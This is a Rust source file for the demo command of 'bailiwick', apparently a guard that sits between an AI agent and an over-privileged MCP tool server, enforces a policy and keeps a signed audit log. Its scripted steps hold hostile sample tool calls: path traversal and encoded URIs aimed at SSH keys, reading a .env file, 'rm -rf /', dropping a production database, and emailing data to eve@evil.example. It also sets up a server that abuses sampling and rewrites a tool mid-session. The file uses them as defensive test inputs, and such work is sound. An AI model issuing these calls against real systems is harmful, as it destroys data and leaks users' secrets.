//! `bailiwick demo`: an over-privileged server, a scripted agent, and between them the real thing.

mod agent;
pub(crate) mod server;

use std::fs;
use std::io::BufReader;
use std::path::{Path, PathBuf};

use bailiwick_analysis::counted;
use bailiwick_record::audit::{PublicKey, Record, Records, verify_file};

use crate::args::DemoArgs;
use crate::command::run::run_id;
use crate::exit::{self, Failure};
use crate::places;
use crate::say::{self, BAD, BOLD, DIM, GOOD, WARN};
use agent::Agent;

const POLICY: &str = include_str!("demo/demo.yaml");

/// One thing that the agent does, and what the viewer should see.
struct Step {
    title: &'static str,
    method: &'static str,
    params: &'static str,
}

const fn call(title: &'static str, params: &'static str) -> Step {
    Step { title, method: "tools/call", params }
}

const STEPS: &[Step] = &[
    Step { title: "The agent asks what there is", method: "tools/list", params: "{}" },
    call("A read that is its work", r#"{"name":"read_file","arguments":{"path":"notes/plan.md"}}"#),
    call("The tool that it was not shown", r#"{"name":"drop_database","arguments":{"name":"production"}}"#),
    call(
        "A secret, through `..`",
        r#"{"name":"read_file","arguments":{"path":"notes/../../../../../../../../../../root/.ssh/id_rsa"}}"#,
    ),
    call(
        "A secret, as a `file:` URI",
        r#"{"name":"read_file","arguments":{"path":"file:///home/ana/%2Essh/id_ed25519"}}"#,
    ),
    call(
        "A secret, in a list",
        r#"{"name":"read_files","arguments":{"files":["notes/plan.md","app/.env"]}}"#,
    ),
    call("A command that is its work", r#"{"name":"run_command","arguments":{"command":"ls notes"}}"#),
    call("A command that is not", r#"{"name":"run_command","arguments":{"command":"rm -rf /"}}"#),
    call(
        "A call that a human must allow, and no human is there",
        r#"{"name":"send_email","arguments":{"to":"eve@evil.example","body":"the plan"}}"#,
    ),
    call(
        "A forecast; the server uses the moment to ask the model for itself",
        r#"{"name":"weather","arguments":{"city":"Oslo"}}"#,
    ),
    call("Another forecast", r#"{"name":"weather","arguments":{"city":"Rome"}}"#),
    call("A third", r#"{"name":"weather","arguments":{"city":"Bern"}}"#),
    call("And one too many", r#"{"name":"weather","arguments":{"city":"Kyiv"}}"#),
    Step {
        title: "The agent lists again: meanwhile the server rewrote a tool",
        method: "tools/list",
        params: "{}",
    },
    call("The rewritten tool", r#"{"name":"read_file","arguments":{"path":"notes/plan.md"}}"#),
];

pub(crate) fn run(args: &DemoArgs) -> Result<i32, Failure> {
    let folder = std::env::temp_dir().join(format!("bailiwick-demo-{}", run_id()?));
    let place = |error: std::io::Error| Failure::error(format!("cannot use `{}`: {error}", folder.display()));
    fs::create_dir(&folder).map_err(place)?;
    let policy = folder.join("demo.yaml");
    fs::write(&policy, POLICY).map_err(place)?;
    let audit = args.audit.clone().unwrap_or_else(|| folder.join("audit.jsonl"));
    // The run that keeps it would say so where nobody looks.
    let kept = audit.parent().filter(|kept| !kept.as_os_str().is_empty());
    if let Some(kept) = kept.filter(|kept| !kept.is_dir()) {
        return Err(Failure::error(format!("there is no folder `{}` for the audit log", kept.display())));
    }
    say::line(&format!(
        "{BOLD}An agent, an MCP server that offers far too much, and bailiwick between them.{BOLD:#}\n{DIM}policy: {}{DIM:#}\n",
        policy.display()
    ));
    let mut agent = Agent::start(&policy, &audit)?;
    let mut seen = Seen { path: audit.clone(), seq: None, prefix: format!("{}/", folder.display()) };
    for step in STEPS {
        show(&mut agent, &mut seen, step)?;
    }
    agent.stop()?;
    finish(&audit, &policy)
}

fn show(agent: &mut Agent, seen: &mut Seen, step: &Step) -> Result<(), Failure> {
    say::line(&format!("{BOLD}{}{BOLD:#}", step.title));
    if step.method == "tools/call" {
        say::line(&format!("  {DIM}agent → {}{DIM:#}", step.params));
    }
    let answer = agent.ask(step.method, step.params)?;
    let records = seen.news()?;
    for record in &records {
        if let Some(line) = verdict(record) {
            // Paths are longer than what is said of them.
            let line = line.replace(&seen.prefix, "");
            say::line(&format!("  {line}"));
        }
    }
    say::line(&format!("  {DIM}agent ← {answer}{DIM:#}\n"));
    Ok(())
}

/// What a record says to a viewer; nothing for what merely went its way.
fn verdict(record: &Record) -> Option<String> {
    let effect = record.text("effect").unwrap_or_default();
    let method = record.text("method").unwrap_or_default();
    let reasons: Vec<String> = record
        .reasons()
        .map(|reason| {
            let place = match (reason.file, reason.line) {
                (Some(file), Some(line)) => {
                    format!(" ({}:{line})", Path::new(file).file_name().unwrap_or_default().display())
                }
                _ => String::new(),
            };
            format!(
                "{} `{}`{place}{}",
                reason.source,
                reason.id,
                reason.message.map(|text| format!(": {text}")).unwrap_or_default()
            )
        })
        .collect();
    let reasons = reasons.join("; ");
    match (record.kind.as_str(), effect) {
        ("decision", "forwarded" | "changed") if method == "tools/call" => {
            Some(format!("{GOOD}✓ allowed{GOOD:#}  {reasons}"))
        }
        ("decision", "held") => Some(format!("{WARN}? asked{WARN:#}    {reasons}")),
        ("decision" | "approval", "refused") if method == "sampling/createMessage" => {
            Some(format!("{BAD}✗ the server's own request was refused{BAD:#}  {method}  {reasons}"))
        }
        ("decision" | "approval", "refused" | "dropped") => Some(format!("{BAD}✗ denied{BAD:#}   {reasons}")),
        ("pin", _) => Some(format!("{BAD}✗ rug pull{BAD:#} {reasons}")),
        ("outcome", "changed") => Some(format!("{WARN}~ filtered{WARN:#} {reasons}")),
        _ => None,
    }
}

/// Reads what was added to the audit log since the last look.
struct Seen {
    path: PathBuf,
    seq: Option<u64>,
    /// What stands before the policy's name where a record names it.
    prefix: String,
}

impl Seen {
    fn news(&mut self) -> Result<Vec<Record>, Failure> {
        // Plain outcomes may follow within the flush interval; decisions are there before their effects.
        let file = fs::File::open(&self.path).map_err(Failure::error)?;
        let records = Records::new(BufReader::new(file)).filter_map(Result::ok);
        let fresh: Vec<Record> = records.filter(|record| Some(record.seq) > self.seq).collect();
        self.seq = fresh.last().map(|record| record.seq).or(self.seq);
        Ok(fresh)
    }
}

fn finish(audit: &Path, policy: &Path) -> Result<i32, Failure> {
    let file = fs::File::open(audit).map_err(Failure::error)?;
    let records: Vec<Record> = Records::new(BufReader::new(file)).filter_map(Result::ok).collect();
    let count = |wanted: &[&str]| {
        let decided = records.iter().filter(|record| matches!(record.kind.as_str(), "decision" | "approval"));
        decided.filter(|record| record.text("effect").is_some_and(|effect| wanted.contains(&effect))).count()
    };
    let report = verify_file(audit, PublicKey::load(&places::key()?).ok()).map_err(Failure::error)?;
    say::line(&format!(
        "{BOLD}{} passed, {} stopped.{BOLD:#} Every one of them is in the audit log.",
        count(&["forwarded", "changed"]),
        count(&["refused", "dropped"])
    ));
    say::line(&format!("audit log: {}", audit.display()));
    let (word, style, status) = if report.is_ok() {
        ("verified", GOOD, exit::OK)
    } else {
        ("does not verify", BAD, exit::NOT_VERIFIED)
    };
    say::line(&format!(
        "{style}{word}{style:#}: {}, chained and signed\n",
        counted(report.records, "record")
    ));
    let own = std::env::current_exe().map_err(Failure::error)?;
    let own = own.display();
    say::line("Try next:");
    say::line(&format!("  {own} audit show {}", audit.display()));
    say::line(&format!("  {own} policy check {}", policy.display()));
    say::line(&format!("  {own} run --policy standard -- npx -y @modelcontextprotocol/server-filesystem ."));
    Ok(status)
}
